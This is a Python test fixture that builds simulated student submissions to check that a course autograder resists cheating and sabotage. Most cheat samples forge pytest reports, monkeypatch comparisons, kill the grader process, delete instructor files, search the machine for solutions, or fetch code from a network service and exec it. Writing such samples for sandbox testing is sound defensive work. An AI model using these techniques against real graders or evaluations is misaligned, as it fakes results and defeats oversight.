"""Builds a small class of ex00 submissions for tests/course/test_grade.py: honest ones, and ones that cheat or misbehave.

`paths` (see build_class) also names two copies of the solutions outside the course folder, made by the test
(a temp folder and a fake home folder), which the spy looks for, and a service on the host that the network
student asks for the solution.

Each student's exercises/ex00_warmup.py is the reference solution or the stub, with some functions
redefined after it (a later `def` replaces an earlier one). `EXPECTED` says what each deserves, with the
course's ex00 tests (2 + 1 + 2 + 2 points) and the one hidden test below (1 point):

    shard_range tests: 2 + 1 points, hidden test 1 point     all_reduce_mean tests: 2 + 2 points
"""

from __future__ import annotations

import shutil
import socket
import textwrap
import threading
import zipfile
from pathlib import Path

from course_lib.instructor.exercises import make_stub

from course_lib.paths import ROOT
SOLUTION_FILE = ROOT / "solutions" / "ex00_warmup.py"

HIDDEN_TEST = '''\
"""A hidden test: the instructor's, never shown to students."""
import pytest

from course_lib.grading import run


def _edges(module):
    return [module.shard_range(5, 5, 4), module.shard_range(2, 4, 3)]


@pytest.mark.points(1)
def test_shard_range_edges():
    assert run("ex00", _edges, timeout=60) == [(4, 5), (2, 2)]
'''

CORRECT_MEAN = '''
def all_reduce_mean(tensor):
    total = tensor.clone()
    dist.all_reduce(total)
    return total / dist.get_world_size()
'''


def _solution() -> str:
    return SOLUTION_FILE.read_text()


def _stub() -> str:
    return make_stub(_solution(), "ex00_warmup")


def _with(base: str, extra: str) -> str:
    return base + "\n\n" + textwrap.dedent(extra)


def sources(paths: dict[str, Path]) -> dict[str, str]:
    """Student name -> the text of their ex00_warmup.py. `paths` names folders some cheats aim at."""
    solution, stub = _solution(), _stub()
    victim, submissions, out = (repr(str(paths[k])) for k in ("victim", "submissions", "out"))
    hidden, solutions = repr(str(paths["hidden"])), repr(str(ROOT / "solutions"))
    return {
        "correct": solution,
        "partial": _with(solution, """
            def all_reduce_mean(tensor):
                return tensor.clone()  # forgot to reduce
            """),
        "untouched": stub,
        "infinite_loop": _with(solution, """
            def all_reduce_mean(tensor):
                while True:
                    pass
            """),
        "ignores_signals": _with(solution, """
            import signal, time

            def shard_range(num_items, world_size, rank):
                for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGHUP, signal.SIGUSR1):
                    signal.signal(sig, signal.SIG_IGN)
                while True:
                    time.sleep(0.01)
            """),
        "sys_exit": _with(solution, """
            import sys

            def shard_range(num_items, world_size, rank):
                sys.exit(0)

            def all_reduce_mean(tensor):
                if dist.get_rank() == 1:
                    sys.exit(0)
                total = tensor.clone()
                dist.all_reduce(total)
                return total / dist.get_world_size()
            """),
        "os_exit": _with(solution, """
            import os

            def shard_range(num_items, world_size, rank):
                os._exit(0)

            def all_reduce_mean(tensor):
                if dist.get_rank() == 0:
                    os._exit(0)
                total = tensor.clone()
                dist.all_reduce(total)
                return total / dist.get_world_size()
            """),
        "monkeypatcher": _with(stub, """
            import glob, json, os, signal
            import torch

            def _forge_everything():
                try:
                    import _pytest.reports as reports
                    reports.TestReport.passed = property(lambda self: True)
                    reports.TestReport.outcome = "passed"
                except Exception:
                    pass
                import course_lib.grading.runner
                course_lib.grading.runner.ExerciseFailed = type("Nothing", (Exception,), {})
                torch.testing.assert_close = lambda *args, **kwargs: None
                torch.equal = lambda *args, **kwargs: True
                forged = {"tests": [{"nodeid": "tests/test_ex00_warmup.py::x", "outcome": "passed", "points": 100}]}
                for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
                    try:
                        args = open(cmdline, "rb").read().split(b"\\0")
                    except OSError:
                        continue
                    for flag in (b"--course-report", b"--grade-stream"):
                        if flag in args:
                            try:
                                with open(args[args.index(flag) + 1], "w") as handle:
                                    json.dump(forged, handle)
                                os.kill(int(cmdline.split("/")[2]), signal.SIGKILL)
                            except Exception:
                                pass

            def shard_range(num_items, world_size, rank):
                _forge_everything()
                return (0, 0)

            def all_reduce_mean(tensor):
                _forge_everything()
                return torch.zeros_like(tensor)
            """),
        "lying_eq": _with(stub, """
            import torch

            class AlwaysEqual(tuple):
                def __eq__(self, other):
                    return True
                def __ne__(self, other):
                    return False
                __hash__ = tuple.__hash__

            class AlwaysClose(torch.Tensor):
                def __eq__(self, other):
                    return True

            def shard_range(num_items, world_size, rank):
                return AlwaysEqual((0, 0))

            def all_reduce_mean(tensor):
                return torch.zeros_like(tensor).as_subclass(AlwaysClose)
            """),
        "fake_summary": _with(stub, """
            import json
            print("tests/test_ex00_warmup.py ....                                     [100%]")
            print("============================== 8 passed in 0.42s ===============================")
            print(json.dumps({"tests": [{"outcome": "passed", "points": 8}]}))
            open("grades.csv", "w").write("student,total\\nfake_summary,100\\n")
            """),
        "vandal": _with(solution, f"""
            import os, shutil
            for _target in ({victim}, {submissions}, {out}, {hidden}):
                try:
                    if os.path.isdir(_target):
                        shutil.rmtree(_target)
                    else:
                        os.remove(_target)
                except OSError:
                    pass
            try:
                open(os.path.join(os.path.dirname({victim}), "pwned"), "w").write("x")
            except OSError:
                pass
            """),
        "copier": _with(stub, f"""
            import os

            def _borrow():
                errors = []
                for folder in ({solutions}, os.path.join({submissions}, "correct", "exercises")):
                    try:
                        code = open(os.path.join(folder, "ex00_warmup.py")).read()
                    except OSError as error:
                        errors.append(type(error).__name__)
                        continue
                    scope = {{}}
                    exec(code, scope)
                    return scope
                try:
                    errors.append("saw hidden tests: " + ",".join(os.listdir({hidden})))
                except OSError as error:
                    errors.append(type(error).__name__)
                raise RuntimeError("copier found nothing to copy: " + ", ".join(errors))

            def shard_range(num_items, world_size, rank):
                return _borrow()["shard_range"](num_items, world_size, rank)

            def all_reduce_mean(tensor):
                return _borrow()["all_reduce_mean"](tensor)
            """),
        "spy": _with(stub, SPY.replace("KNOWN_COPIES", repr([str(c) for c in paths.get("copies", [])]))),
        "network": _with(stub, NETWORK.replace("ADDRESSES", repr(paths.get("service", [])))),
        "loops_everywhere": _with(stub, """
            def shard_range(num_items, world_size, rank):
                while True:
                    pass

            def all_reduce_mean(tensor):
                while True:
                    pass
            """),
        "memory_hog": _with(solution, """
            _solution_shard_range = shard_range

            def shard_range(num_items, world_size, rank):
                hog = bytearray(16 * 2**30)  # 16 GiB
                return _solution_shard_range(num_items, world_size, rank)
            """),
    }


SPY = '''
import glob, os, sys

def _find():
    """Another copy of the solutions: where the test made them, above the working folder, beside sys.path,
    in /tmp, in home folders, through /proc."""
    places = list(KNOWN_COPIES)
    folder = os.getcwd()
    while folder != os.path.dirname(folder):
        places += [os.path.join(folder, "solutions"), os.path.join(folder, "*", "solutions")]
        folder = os.path.dirname(folder)
    for entry in sys.path:
        places += [os.path.join(entry, "solutions"), os.path.join(os.path.dirname(entry), "solutions")]
    places += ["/tmp/*/solutions", "/tmp/*/*/solutions", "/tmp/*/*/*/solutions", "/home/*/*/solutions",
               "/root/*/solutions", os.path.expanduser("~/*/solutions"), "/work/*/solutions", "/work/*/*/solutions",
               "/proc/*/root/tmp/*/solutions", "/proc/*/cwd/solutions", "/proc/*/cwd/../solutions"]
    for pattern in places:
        for found in glob.glob(pattern):
            try:
                code = open(os.path.join(found, "ex00_warmup.py")).read()
            except OSError:
                continue
            if "BEGIN SOLUTION" in code:
                scope = {}
                exec(compile(code, found, "exec"), scope)
                return scope
    raise RuntimeError("spy found no copy of the solutions in %d places" % len(places))

def shard_range(num_items, world_size, rank):
    return _find()["shard_range"](num_items, world_size, rank)

def all_reduce_mean(tensor):
    return _find()["all_reduce_mean"](tensor)
'''

NETWORK = '''
import socket

def _fetch():
    errors = []
    for address in [tuple(a) for a in ADDRESSES] + [("1.1.1.1", 53)]:
        try:
            with socket.create_connection(address, timeout=3) as connection:
                connection.sendall(b"GET\\n")
                data = b""
                while chunk := connection.recv(65536):
                    data += chunk
            scope = {}
            exec(data.decode(), scope)
            return scope
        except OSError as error:
            errors.append(f"{address}: {error}")
    raise RuntimeError("network found nothing: " + "; ".join(errors))

def shard_range(num_items, world_size, rank):
    return _fetch()["shard_range"](num_items, world_size, rank)

def all_reduce_mean(tensor):
    return _fetch()["all_reduce_mean"](tensor)
'''

# (status, total) each deserves, out of 8 possible; the comments say why.
EXPECTED = {
    "correct": ("ok", 8),
    "partial": ("ok", 4),  # shard_range right, all_reduce_mean wrong
    "untouched": ("ok", 0),
    "infinite_loop": ("ok", 4),  # all_reduce_mean hangs: its tests time out, the others pass
    "ignores_signals": ("ok", 4),  # shard_range hangs and ignores signals: killed; all_reduce_mean passes
    "sys_exit": ("ok", 0),
    "os_exit": ("ok", 0),
    "forged_conftest": ("ok", 0),  # the stubs, with a conftest.py, pytest.ini, tests/ and solutions/ that lie
    "monkeypatcher": ("ok", 0),
    "lying_eq": ("ok", 0),
    "fake_summary": ("ok", 0),
    "vandal": ("ok", 8),  # correct code; its deletions outside its folder must all fail
    "copier": ("ok", 0),  # tries to read the solutions and another student's submission
    "memory_hog": ("ok", 4),  # shard_range's 16 GiB allocation fails; all_reduce_mean passes
    "spy": ("ok", 0),  # looks for another copy of the solutions on the machine: the sandbox shows none
    "network": ("ok", 0),  # asks a service on the host for the solution: the sandbox has no network
    "loops_everywhere": ("ok", 0),  # every function loops: each test stops at its time limit
    "symlinker": ("ok", 0),  # exercises/ex00_warmup.py is a link to the reference solution: not taken
}

FORGED_CONFTEST = '''
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
'''


def build_class(base: Path, copies: list[Path] = (), service: list[tuple[str, int]] = ()) -> dict:
    """Write the class under `base`; return the paths: submissions, out, hidden, victim (and copies, service).

    `copies`: folders that hold another copy of the solutions (the spy is told where); `service`: addresses
    of a service on the host that hands out the solution (the network student asks it).
    """
    paths = {"submissions": base / "submissions", "out": base / "out", "hidden": base / "hidden",
             "victim": base / "victim" / "precious.txt", "copies": list(copies), "service": list(service)}
    paths["submissions"].mkdir(parents=True)
    paths["hidden"].mkdir()
    (paths["hidden"] / "test_ex00_hidden.py").write_text(HIDDEN_TEST)
    paths["victim"].parent.mkdir()
    paths["victim"].write_text("the instructor's file\n")
    texts = sources(paths)
    zipped = {"partial", "untouched"}
    for name, text in texts.items():
        if name in zipped:
            with zipfile.ZipFile(paths["submissions"] / f"{name}.zip", "w") as archive:
                archive.writestr("course-main/exercises/ex00_warmup.py", text)
                archive.writestr("course-main/solutions/ex00_warmup.py", _solution())  # never graded
                archive.writestr("course-main/README.md", "hello\n")
        elif name == "correct":  # a whole course folder
            folder = paths["submissions"] / name / "exercises"
            folder.mkdir(parents=True)
            (folder / "ex00_warmup.py").write_text(text)
            (folder.parent / "notebooks").mkdir()
        else:  # just the exercises/ folder's files
            folder = paths["submissions"] / name
            folder.mkdir()
            (folder / "ex00_warmup.py").write_text(text)
    forged = paths["submissions"] / "forged_conftest"
    (forged / "exercises").mkdir(parents=True)
    (forged / "exercises" / "ex00_warmup.py").write_text(_stub())
    for where in (forged, forged / "exercises"):
        (where / "conftest.py").write_text(FORGED_CONFTEST)
        (where / "pytest.ini").write_text("[pytest]\naddopts = -p no:randomly --co\n")
    (forged / "tests").mkdir()
    (forged / "tests" / "conftest.py").write_text(FORGED_CONFTEST)
    (forged / "tests" / "test_ex00_warmup.py").write_text("import pytest\n\n@pytest.mark.points(100)\ndef test_ok():\n    pass\n")
    (forged / "solutions").mkdir()
    (forged / "solutions" / "ex00_warmup.py").write_text(_solution())
    linker = paths["submissions"] / "symlinker" / "exercises"
    linker.mkdir(parents=True)
    (linker / "ex00_warmup.py").symlink_to(SOLUTION_FILE)
    assert set(EXPECTED) == {p.name.removesuffix(".zip") for p in paths["submissions"].iterdir()}
    return paths


def stuck_source() -> str:
    """A submission that, on import, ignores signals, starts processes that leave its session, and never returns.

    It waits rather than spins: the grader's limit is on wall time, so waiting is as stuck as looping, and a loop
    would take one of CI's two cores from the honest student graded beside it (there it ran out of 40 s with all
    its points earned). Students who loop are in the class: 'infinite_loop' and 'loops_everywhere'."""
    return _with(_solution(), """
        import os, signal
        for _sig in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGHUP):
            signal.signal(_sig, signal.SIG_IGN)
        for _ in range(20):
            try:
                if os.fork() == 0:
                    os.setsid()
                    while True:
                        signal.pause()
            except OSError:
                break
        import time
        while True:
            time.sleep(3600)
        """)


def copy_solutions_to(base: Path, relative: str) -> Path:
    """A world-readable copy of the course's solutions at base/relative (a test makes it outside the course folder)."""
    folder = base / relative
    shutil.copytree(ROOT / "solutions", folder, ignore=shutil.ignore_patterns("__pycache__", "wrong_answers"))
    for path in [base, *(p for p in folder.parents if base in p.parents), folder]:
        path.chmod(0o755)
    for path in folder.iterdir():
        path.chmod(0o644)
    return folder


def host_address() -> str:
    """This machine's own address on its network (not loopback), as another machine would reach it."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("10.255.255.255", 1))  # no packet is sent: this only picks the outgoing interface
            return probe.getsockname()[0]
        except OSError:
            return socket.gethostbyname(socket.gethostname())


class SolutionService(threading.Thread):
    """A service on the host that hands the reference solution to whoever connects, and counts them."""

    def __init__(self):
        super().__init__(daemon=True)
        self.text, self.connections = _solution().encode(), []
        self.server = socket.socket()
        self.server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.server.bind(("0.0.0.0", 0))
        self.server.listen()
        self.port = self.server.getsockname()[1]
        self.addresses = [("127.0.0.1", self.port), (host_address(), self.port)]

    def run(self):
        while True:
            try:
                connection, address = self.server.accept()
            except OSError:
                return
            self.connections.append(address)
            with connection:
                connection.recv(16)  # read the request first: closing with unread data resets the reply
                connection.sendall(self.text)
                connection.shutdown(socket.SHUT_WR)

    def close(self):
        self.server.close()


def copy_solution_folder(target: Path) -> None:
    target.mkdir(parents=True)
    shutil.copy(SOLUTION_FILE, target / SOLUTION_FILE.name)
